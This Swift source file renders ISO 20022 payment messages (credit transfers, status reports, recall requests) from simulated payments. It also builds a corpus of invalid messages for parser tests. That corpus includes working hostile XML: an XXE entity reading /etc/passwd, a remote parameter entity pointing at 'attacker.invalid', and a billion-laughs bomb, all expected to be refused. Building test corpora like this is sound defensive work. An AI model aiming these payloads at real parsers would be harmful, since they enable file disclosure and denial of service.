import Foundation
public import VigilDomain
public import VigilGateway

/// Renders valid ISO 20022 messages from payments (Vigil's simulated history, read with `HistoryReader`), and the
/// invalid messages every reader test and fuzz seed needs: each hostile construct and each missing mandatory element.
public enum ISO20022Corpus {
    /// A pacs.008 with one `CdtTrfTxInf` per payment.
    public static func creditTransfer(_ payments: [PaymentRequest], version: Int = 10, messageId: String, createdAt: Instant) -> ISO20022Document {
        let kind = MessageKind.pacs008
        let ns = kind.namespace(version: version)
        func element(_ name: String, _ children: [XMLElement] = [], text: String = "") -> XMLElement {
            XMLElement(namespace: ns, name: name, children: children, text: text)
        }
        let header = element("GrpHdr", [
            element("MsgId", text: messageId), element("CreDtTm", text: rfc3339(createdAt)), element("NbOfTxs", text: String(payments.count)),
            element("SttlmInf", [element("SttlmMtd", text: "CLRG")]),
        ])
        var transactions: [XMLElement] = []
        for payment in payments {
            var paymentId = [element("InstrId", text: payment.paymentId), element("EndToEndId", text: payment.paymentId)]
            if let uetr = payment.uetr { paymentId.append(element("UETR", text: uetr)) }
            var type: [XMLElement] = []
            switch payment.scheme {
            case "SEPA_INST":
                type = [element("SvcLvl", [element("Cd", text: "SEPA")]), element("LclInstrm", [element("Cd", text: "INST")])]
            default:
                type = [element("LclInstrm", [element("Prtry", text: payment.scheme)])]
            }
            var amount = element("IntrBkSttlmAmt", text: payment.amount.decimalString)
            amount.attributes = [XMLAttribute(name: "Ccy", value: payment.amount.currency.code)]
            var children = [element("PmtId", paymentId), element("PmtTpInf", type), amount]
            children.append(element("AccptncDtTm", text: rfc3339(payment.createdAt)))
            children.append(element("ChrgBr", text: "SLEV"))
            children += party(payment.debtor, role: "Dbtr", element: element)
            children += party(payment.creditor, role: "Cdtr", element: element)
            if let reference = payment.reference, !reference.isEmpty {
                children.append(element("RmtInf", [element("Ustrd", text: reference)]))
            }
            transactions.append(element("CdtTrfTxInf", children))
        }
        return ISO20022Document(kind: kind, version: version, message: element(kind.rootElement, [header] + transactions))
    }

    /// `Dbtr`, `DbtrAcct`, `DbtrAgt` (or `Cdtr`…), in schema order (the agent after the account for the debtor,
    /// before the party for the creditor, as the XSD sequences them).
    static func party(_ party: Party, role: String, element: (String, [XMLElement], String) -> XMLElement) -> [XMLElement] {
        let id: XMLElement
        switch party.account {
        case .iban(let iban):
            id = element("Id", [element("IBAN", [], iban)], "")
        case .ukDomestic(let sortCode, let number):
            id = element("Id", [element("Othr", [
                element("Id", [], sortCode + number), element("SchmeNm", [element("Prtry", [], CreditTransferMapping.sortCodeAccountScheme)], ""),
            ], "")], "")
        case .scheme(let scheme, let value):
            id = element("Id", [element("Othr", [element("Id", [], value), element("SchmeNm", [element("Prtry", [], scheme)], "")], "")], "")
        }
        let named = element(role, party.name.map { [element("Nm", [], $0)] } ?? [], "")
        let account = element(role + "Acct", [id], "")
        guard let agent = party.agent else { return [named, account] }
        let institution = agent.utf8.count == 8 || agent.utf8.count == 11
            ? element("BICFI", [], agent)
            : element("ClrSysMmbId", [element("MmbId", [], agent)], "")
        let agentElement = element(role + "Agt", [element("FinInstnId", [institution], "")], "")
        return role == "Dbtr" ? [named, account, agentElement] : [agentElement, named, account]
    }

    /// A pacs.002 reporting `statuses` (each a `TxSts` code, its reason and the payment's UETR or end-to-end id).
    public static func statusReport(
        _ statuses: [(uetr: String?, endToEndId: String?, status: String, reason: String?)], version: Int = 12, messageId: String, createdAt: Instant
    ) -> ISO20022Document {
        let kind = MessageKind.pacs002
        let ns = kind.namespace(version: version)
        func element(_ name: String, _ children: [XMLElement] = [], text: String = "") -> XMLElement {
            XMLElement(namespace: ns, name: name, children: children, text: text)
        }
        var children = [element("GrpHdr", [element("MsgId", text: messageId), element("CreDtTm", text: rfc3339(createdAt))])]
        for entry in statuses {
            var transaction: [XMLElement] = []
            if let id = entry.endToEndId { transaction.append(element("OrgnlEndToEndId", text: id)) }
            if let uetr = entry.uetr { transaction.append(element("OrgnlUETR", text: uetr)) }
            transaction.append(element("TxSts", text: entry.status))
            if let reason = entry.reason { transaction.append(element("StsRsnInf", [element("Rsn", [element("Cd", text: reason)])])) }
            children.append(element("TxInfAndSts", transaction))
        }
        return ISO20022Document(kind: kind, version: version, message: element(kind.rootElement, children))
    }

    /// A camt.056 recalling `payments` for `reason` (`FRAD` for fraud), one `Undrlyg/TxInf` each.
    public static func cancellationRequest(
        _ payments: [PaymentRequest], reason: String = "FRAD", version: Int = 10, id: String, createdAt: Instant
    ) -> ISO20022Document {
        let kind = MessageKind.camt056
        let ns = kind.namespace(version: version)
        func element(_ name: String, _ children: [XMLElement] = [], text: String = "") -> XMLElement {
            XMLElement(namespace: ns, name: name, children: children, text: text)
        }
        let assignment = element("Assgnmt", [
            element("Id", text: id),
            element("Assgnr", [element("Agt", [element("FinInstnId", [element("BICFI", text: "VIGLGB2LXXX")])])]),
            element("Assgne", [element("Agt", [element("FinInstnId", [element("BICFI", text: "VIGLGB2LXXX")])])]),
            element("CreDtTm", text: rfc3339(createdAt)),
        ])
        var transactions: [XMLElement] = []
        for payment in payments {
            var amount = element("OrgnlIntrBkSttlmAmt", text: payment.amount.decimalString)
            amount.attributes = [XMLAttribute(name: "Ccy", value: payment.amount.currency.code)]
            var children = [element("OrgnlEndToEndId", text: payment.paymentId)]
            if let uetr = payment.uetr { children.append(element("OrgnlUETR", text: uetr)) }
            children.append(amount)
            children.append(element("CxlRsnInf", [element("Rsn", [element("Cd", text: reason)])]))
            let creditor = party(payment.creditor, role: "Cdtr", element: element).filter { $0.name == "CdtrAcct" }
            children.append(element("OrgnlTxRef", creditor))
            transactions.append(element("TxInf", children))
        }
        return ISO20022Document(kind: kind, version: version, message: element(kind.rootElement, [assignment, element("Undrlyg", transactions)]))
    }

    /// An instant as RFC 3339 in its own UTC offset (`…+01:00`), `Z` for UTC.
    public static func rfc3339(_ instant: Instant) -> String {
        guard instant.utcOffsetSeconds != 0 else { return instant.rfc3339UTC }
        let local = Instant(epochMillis: instant.epochMillis + Int64(instant.utcOffsetSeconds) * 1000).rfc3339UTC
        let offset = abs(Int(instant.utcOffsetSeconds)) / 60
        let sign = instant.utcOffsetSeconds < 0 ? "-" : "+"
        let hours = offset / 60 < 10 ? "0\(offset / 60)" : "\(offset / 60)"
        let minutes = offset % 60 < 10 ? "0\(offset % 60)" : "\(offset % 60)"
        return String(local.dropLast()) + sign + hours + ":" + minutes
    }

    /// One refused message: its name, bytes, the error code it must get and, for a missing element, the pointer.
    public struct InvalidCase: Sendable {
        public var name: String
        public var body: [UInt8]
        public var format: MessageFormat
        public var code: ISO20022Error.Code
        public var pointer: String?
    }

    /// Every hostile XML construct, wrong namespaces and versions, and every missing mandatory element of `valid` (a
    /// pacs.008 with at least two transactions), each in the format it applies to.
    public static func invalidCreditTransfers(from valid: ISO20022Document) -> [InvalidCase] {
        let xml = String(decoding: ISO20022XML.render(valid), as: UTF8.self)
        let body = String(xml.drop { $0 != "\n" }.dropFirst())
        let ns = valid.kind.namespace(version: valid.version)
        func bytes(_ text: String) -> [UInt8] { Array(text.utf8) }
        var cases: [InvalidCase] = [
            InvalidCase(
                name: "xxe-system-entity",
                body: bytes("<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                    + body.replacingOccurrences(of: "<MsgId>", with: "<MsgId>&xxe;")),
                format: .xml, code: .refused
            ),
            InvalidCase(
                name: "parameter-entity",
                body: bytes("<!DOCTYPE Document [<!ENTITY % remote SYSTEM \"http://attacker.invalid/x.dtd\"> %remote;]>\n" + body),
                format: .xml, code: .refused
            ),
            InvalidCase(
                name: "billion-laughs",
                body: bytes("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                    + (1...9).map { "<!ENTITY lol\($0) \"" + String(repeating: "&lol\($0 == 1 ? "" : String($0 - 1));", count: 10) + "\">" }.joined()
                    + "]>\n" + body.replacingOccurrences(of: "<MsgId>", with: "<MsgId>&lol9;")),
                format: .xml, code: .refused
            ),
            InvalidCase(
                name: "undeclared-entity-reference",
                body: bytes(body.replacingOccurrences(of: "<MsgId>", with: "<MsgId>&nbsp;")), format: .xml, code: .refused
            ),
            InvalidCase(
                name: "processing-instruction",
                body: bytes(body.replacingOccurrences(of: "<GrpHdr>", with: "<?xml-stylesheet href=\"x.xsl\"?><GrpHdr>")), format: .xml, code: .refused
            ),
            InvalidCase(
                name: "deep-nesting",
                body: bytes("<Document xmlns=\"\(ns)\">" + String(repeating: "<a>", count: 40) + String(repeating: "</a>", count: 40) + "</Document>"),
                format: .xml, code: .limitExceeded
            ),
            InvalidCase(
                name: "deep-nesting-json",
                body: bytes("{\"TxTp\":\"\(valid.kind.identifier(version: valid.version))\",\"FIToFICstmrCdt\":"
                    + String(repeating: "{\"a\":", count: 40) + "\"x\"" + String(repeating: "}", count: 41)),
                format: .json, code: .limitExceeded
            ),
            InvalidCase(
                name: "too-many-attributes",
                body: bytes(body.replacingOccurrences(of: "<GrpHdr>", with: "<GrpHdr " + (1...20).map { "a\($0)=\"x\"" }.joined(separator: " ") + ">")),
                format: .xml, code: .limitExceeded
            ),
            InvalidCase(
                name: "text-too-long",
                body: bytes(body.replacingOccurrences(of: "<MsgId>", with: "<MsgId>" + String(repeating: "x", count: 5000))),
                format: .xml, code: .limitExceeded
            ),
            InvalidCase(
                name: "unbalanced-tags",
                body: bytes(body.replacingOccurrences(of: "</GrpHdr>", with: "</GrpHdrX>")), format: .xml, code: .malformed
            ),
            InvalidCase(name: "truncated", body: Array(bytes(body).prefix(body.utf8.count / 2)), format: .xml, code: .malformed),
            InvalidCase(
                name: "malformed-utf8", body: bytes(body.replacingOccurrences(of: "<MsgId>", with: "<MsgId>\u{1}")).map { $0 == 1 ? 0xC0 : $0 },
                format: .xml, code: .malformed
            ),
            InvalidCase(
                name: "unbound-prefix",
                body: bytes(body.replacingOccurrences(of: "<GrpHdr>", with: "<p:GrpHdr>").replacingOccurrences(of: "</GrpHdr>", with: "</p:GrpHdr>")),
                format: .xml, code: .malformed
            ),
        ]
        for version in [7, 13] {
            let other = valid.kind.namespace(version: version)
            cases.append(InvalidCase(
                name: "version-\(version)", body: bytes(body.replacingOccurrences(of: ns, with: other)), format: .xml, code: .unsupportedMessage,
                pointer: "/Document"
            ))
            var json = valid
            json.version = version
            cases.append(InvalidCase(
                name: "version-\(version)-json", body: ISO20022JSON.render(json), format: .json, code: .unsupportedMessage, pointer: "/TxTp"
            ))
        }
        cases.append(InvalidCase(
            name: "wrong-namespace", body: bytes(body.replacingOccurrences(of: ns, with: "urn:iso:std:iso:20022:tech:xsd:pacs.009.001.08")),
            format: .xml, code: .unsupportedMessage, pointer: "/Document"
        ))
        for (name, path, pointer) in mandatoryElements {
            var document = valid
            document.message = removing(path, from: document.message)
            for format in MessageFormat.allCases {
                let rendered = format == .xml ? ISO20022XML.render(document) : ISO20022JSON.render(document)
                cases.append(InvalidCase(name: "missing-\(name)-\(format.rawValue)", body: rendered, format: format, code: .missingElement, pointer: pointer))
            }
        }
        return cases
    }

    /// Each mandatory element of a pacs.008: a name, the path to remove (in the second transaction where it is one),
    /// and the pointer the error must name.
    public static let mandatoryElements: [(name: String, path: [String], pointer: String)] = {
        let root = "/Document/FIToFICstmrCdtTrf"
        let second = root + "/CdtTrfTxInf[2]"
        return [
            ("GrpHdr", ["GrpHdr"], root + "/GrpHdr"),
            ("MsgId", ["GrpHdr", "MsgId"], root + "/GrpHdr/MsgId"),
            ("CreDtTm", ["GrpHdr", "CreDtTm"], root + "/GrpHdr/CreDtTm"),
            ("CdtTrfTxInf", ["CdtTrfTxInf"], root + "/CdtTrfTxInf[1]"),
            ("PmtId", ["CdtTrfTxInf[2]", "PmtId"], second + "/PmtId"),
            ("EndToEndId", ["CdtTrfTxInf[2]", "PmtId", "EndToEndId"], second + "/PmtId/EndToEndId"),
            ("IntrBkSttlmAmt", ["CdtTrfTxInf[2]", "IntrBkSttlmAmt"], second + "/IntrBkSttlmAmt"),
            ("Ccy", ["CdtTrfTxInf[2]", "IntrBkSttlmAmt", "@Ccy"], second + "/IntrBkSttlmAmt/@Ccy"),
            ("Dbtr", ["CdtTrfTxInf[2]", "Dbtr"], second + "/Dbtr"),
            ("DbtrAcct", ["CdtTrfTxInf[2]", "DbtrAcct"], second + "/DbtrAcct"),
            ("DbtrAcct-Id", ["CdtTrfTxInf[2]", "DbtrAcct", "Id"], second + "/DbtrAcct/Id"),
            ("Cdtr", ["CdtTrfTxInf[2]", "Cdtr"], second + "/Cdtr"),
            ("CdtrAcct", ["CdtTrfTxInf[2]", "CdtrAcct"], second + "/CdtrAcct"),
            ("CdtrAcct-Id", ["CdtTrfTxInf[2]", "CdtrAcct", "Id"], second + "/CdtrAcct/Id"),
        ]
    }()

    /// `element` without what `path` names: a child by name (`Name[n]` for the n-th of its name, every one without an
    /// index) or, last, an attribute (`@Ccy`).
    static func removing(_ path: [String], from element: XMLElement) -> XMLElement {
        guard let step = path.first else { return element }
        var copy = element
        if step.hasPrefix("@") {
            copy.attributes.removeAll { $0.name == step.dropFirst() }
            return copy
        }
        var name = step
        var index: Int?
        if let bracket = step.firstIndex(of: "[") {
            name = String(step[..<bracket])
            index = Int(step[step.index(after: bracket)...].dropLast())
        }
        var seen = 0
        var children: [XMLElement] = []
        for child in element.children {
            guard child.name == name else {
                children.append(child)
                continue
            }
            seen += 1
            if let index, seen != index {
                children.append(child)
            } else if path.count > 1 {
                children.append(removing(Array(path.dropFirst()), from: child))
            }
        }
        copy.children = children
        return copy
    }
}
